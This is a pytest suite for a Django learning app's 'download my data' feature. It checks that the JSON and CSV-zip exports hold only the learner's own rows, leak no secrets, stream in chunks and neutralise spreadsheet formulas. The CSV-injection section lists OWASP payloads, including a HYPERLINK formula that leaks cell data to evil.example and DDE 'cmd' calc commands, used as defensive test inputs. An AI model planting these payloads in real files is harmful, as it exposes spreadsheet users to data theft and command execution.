"""Download my data: a streamed JSON document and a streamed zip of CSV files with every row the
learner owns, nothing of anyone else, and no secrets."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import jsonschema
import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from accounts.export import export_json_schema
from accounts.ownership import LEARNER_OWNED
from core.spreadsheet import csv_safe_cell
from portfolio.models import JobApplication
from roadmap.models import MilestoneProgress, ProgressEvent
from tests.accounts.learner_data import full_learner_data
from tests.project import PROJECT_PACKAGES
from tests.roadmap.factories import build_roadmap
from tests.test_layout import assert_shared_layout, parse  # noqa: E402

pytestmark = pytest.mark.django_db

JSON_URL = reverse("accounts:export_json")
ZIP_URL = reverse("accounts:export_csv")
DATA_URL = reverse("accounts:data")
SCHEMA_URL = reverse("accounts:export_schema")


def body(response) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


@pytest.fixture
def two_learners():
    """Two learners with data of every kind on the same roadmap."""
    path = build_roadmap(steps=1, milestones_per_step=3)
    return full_learner_data(path=path), full_learner_data(path=path)


@pytest.mark.parametrize("url", [JSON_URL, ZIP_URL, DATA_URL, SCHEMA_URL])
def test_anonymous_visitors_are_sent_to_log_in(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response.url == f"{reverse('account_login')}?next={url}"


def test_json_export_has_every_table_with_exactly_the_learners_rows(client, two_learners):
    # given
    mine, other = two_learners
    client.force_login(mine.learner)

    # when
    response = client.get(JSON_URL)

    # then: a streamed download
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="careerpath-export-')
    document = json.loads(body(response))
    assert document["format"] == "careerpath-export" and document["version"] == 1
    assert document["learner_id"] == mine.learner.pk
    # every registry table, each with the learner's rows (by primary key), nothing more
    assert list(document["tables"]) == [t.name for t in LEARNER_OWNED]
    for table in LEARNER_OWNED:
        exported = document["tables"][table.name]
        expected_ids = list(table.rows_of(mine.learner).values_list("pk", flat=True))
        assert [row["id"] for row in exported] == expected_ids, table.name
        assert exported, table.name
    assert document["tables"]["account"][0]["email"] == mine.learner.email
    assert document["tables"]["milestone_progress"][0]["notes"] == (
        f"Private notes of {mine.learner.email}"
    )


def test_json_export_holds_nothing_of_another_learner_and_no_secret(client, two_learners):
    # given
    mine, other = two_learners
    client.force_login(mine.learner)

    # when
    raw = body(client.get(JSON_URL)).decode()

    # then
    assert other.learner.email not in raw
    assert f"Company of {other.learner.pk}" not in raw
    assert other.public_slug not in raw
    for secret in (mine.access_token, mine.calendar_secret, mine.learner.password):
        assert secret not in raw
    assert mine.learner.calendar_token_hash not in raw
    assert "token_hash" not in raw and "password" not in raw


def test_json_export_matches_its_published_json_schema(client, two_learners):
    # given
    mine, _other = two_learners
    client.force_login(mine.learner)
    schema = client.get(SCHEMA_URL).json()

    # when
    document = json.loads(body(client.get(JSON_URL)))

    # then: valid, and the schema is strict enough to notice a stray column
    jsonschema.validate(document, schema, format_checker=jsonschema.FormatChecker())
    document["tables"]["projects"][0]["someone_elses"] = 1
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, schema)


def test_published_schema_is_a_valid_json_schema():
    jsonschema.Draft202012Validator.check_schema(export_json_schema())


def test_csv_zip_has_one_file_per_table_with_header_and_the_learners_rows(client, two_learners):
    # given
    mine, other = two_learners
    client.force_login(mine.learner)

    # when
    response = client.get(ZIP_URL)

    # then
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    assert archive.testzip() is None
    assert archive.namelist() == [f"{t.name}.csv" for t in LEARNER_OWNED]
    for table in LEARNER_OWNED:
        text = archive.read(f"{table.name}.csv").decode("utf-8")
        rows = list(csv.reader(io.StringIO(text)))
        assert tuple(rows[0]) == table.fields, table.name
        expected_ids = [str(pk) for pk in table.rows_of(mine.learner).values_list("pk", flat=True)]
        assert [row[0] for row in rows[1:]] == expected_ids, table.name
        assert other.learner.email not in text
        assert mine.access_token not in text and mine.calendar_secret not in text
    progress = list(csv.DictReader(io.StringIO(archive.read("milestone_progress.csv").decode())))
    assert progress[0]["notes"] == f"Private notes of {mine.learner.email}"
    assert progress[0]["status"] == "in_progress"


def test_a_big_export_streams_in_many_chunks(client):
    # given: a learner with 1,200 progress events
    data = full_learner_data()
    event = ProgressEvent.objects.filter(learner=data.learner).first()
    ProgressEvent.objects.bulk_create(
        ProgressEvent(
            learner=data.learner,
            milestone=event.milestone,
            kind=event.kind,
            occurred_at=event.occurred_at,
        )
        for _ in range(1200)
    )
    client.force_login(data.learner)

    # when
    json_chunks = list(client.get(JSON_URL).streaming_content)
    zip_chunks = list(client.get(ZIP_URL).streaming_content)

    # then: sent piece by piece, no piece near the whole
    assert len(json_chunks) > 10 and max(map(len, json_chunks)) < len(b"".join(json_chunks)) / 4
    assert len(zip_chunks) > len(LEARNER_OWNED)
    document = json.loads(b"".join(json_chunks))
    assert len(document["tables"]["progress_events"]) == 1201
    archive = zipfile.ZipFile(io.BytesIO(b"".join(zip_chunks)))
    assert archive.read("progress_events.csv").count(b"\n") == 1202


@pytest.mark.parametrize("url", [JSON_URL, ZIP_URL])
def test_export_query_count_does_not_grow_with_the_data(client, django_assert_max_num_queries, url):
    # given: one row of each kind
    data = full_learner_data(rows=1)
    client.force_login(data.learner)
    # session, user, then one query per table
    expected = 2 + len(LEARNER_OWNED)
    with django_assert_max_num_queries(expected):
        body(client.get(url))

    # when: twenty times the rows
    more = full_learner_data(data.learner, rows=20)
    assert more.learner == data.learner

    # then: the same count
    with django_assert_max_num_queries(expected):
        body(client.get(url))


def test_data_page_links_both_downloads_and_keeps_its_query_count(
    client, django_assert_max_num_queries
):
    # given
    data = full_learner_data()
    client.force_login(data.learner)

    # when
    with django_assert_max_num_queries(2):
        page = client.get(DATA_URL).content.decode()
    full_learner_data(data.learner, rows=10)

    # then
    with django_assert_max_num_queries(2):
        assert client.get(DATA_URL).status_code == 200
    assert f'href="{JSON_URL}"' in page and f'href="{ZIP_URL}"' in page
    assert f'href="{SCHEMA_URL}"' in page


def test_data_page_shares_the_layout(client):
    client.force_login(full_learner_data().learner)
    assert_shared_layout(parse(client.get(DATA_URL).content.decode()), logged_in=True)


# --- CSV injection (OWASP): no cell a spreadsheet would run as a formula ----------------------

OWASP_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # after leading whitespace, which some spreadsheets trim on import
    "\n=1+1",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_csv_safe_cell_puts_a_quote_before_text_that_could_start_a_formula(payload):
    assert csv_safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value, cell",
    [
        (Decimal("-3.50"), "-3.50"),  # a stored number stays a number
        (-5, "-5"),
        ("-5", "'-5"),  # text, even when it looks like a number (OWASP: prefix every "-")
        ("Plain text, with = and - inside", "Plain text, with = and - inside"),
        ("'already quoted", "'already quoted"),
        ("", ""),
        (None, ""),
    ],
)
def test_csv_safe_cell_leaves_numbers_and_harmless_text_alone(value, cell):
    assert csv_safe_cell(value) == cell


def test_csv_export_neutralises_formulas_and_the_json_export_keeps_them_exact(client):
    # given: a learner whose note and application hold spreadsheet formulas
    data = full_learner_data()
    note, company = OWASP_PAYLOADS[0], OWASP_PAYLOADS[1]
    MilestoneProgress.objects.filter(learner=data.learner).update(notes=note)
    JobApplication.objects.filter(learner=data.learner).update(
        company=company, notes="; =1+1", next_action="@SUM(1+1)"
    )
    client.force_login(data.learner)

    # when
    archive = zipfile.ZipFile(io.BytesIO(body(client.get(ZIP_URL))))
    document = json.loads(body(client.get(JSON_URL)))

    # then: in the CSV each is text behind a quote, every cell quoted, numbers unchanged
    def rows(name):
        return list(csv.DictReader(io.StringIO(archive.read(f"{name}.csv").decode())))

    assert rows("milestone_progress")[0]["notes"] == "'" + note
    application = rows("job_applications")[0]
    assert application["company"] == "'" + company
    assert application["next_action"] == "'@SUM(1+1)"
    assert application["notes"] == "; =1+1"  # one cell: a semicolon cannot split it
    assert archive.read("job_applications.csv").decode().startswith('"id","')  # all quoted
    for name in [t.name for t in LEARNER_OWNED]:
        for row in rows(name):
            for cell in row.values():
                assert not cell.lstrip().startswith(("=", "+", "-", "@")), (name, cell)
    assert rows("credit_activities")[0]["credits"] == "2.00"
    # and the JSON export is exact
    assert document["tables"]["milestone_progress"][0]["notes"] == note
    assert document["tables"]["job_applications"][0]["company"] == company


def test_every_csv_the_project_writes_goes_through_the_safe_writer():
    # A new csv.writer elsewhere would write learners' text unneutralised.
    root = Path(__file__).resolve().parents[2]
    sources = [p for folder in PROJECT_PACKAGES for p in (root / folder).rglob("*.py")]
    writers = [
        str(p.relative_to(root))
        for p in sources
        if re.search(r"\bcsv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))
    ]
    assert writers == ["core/spreadsheet.py"]
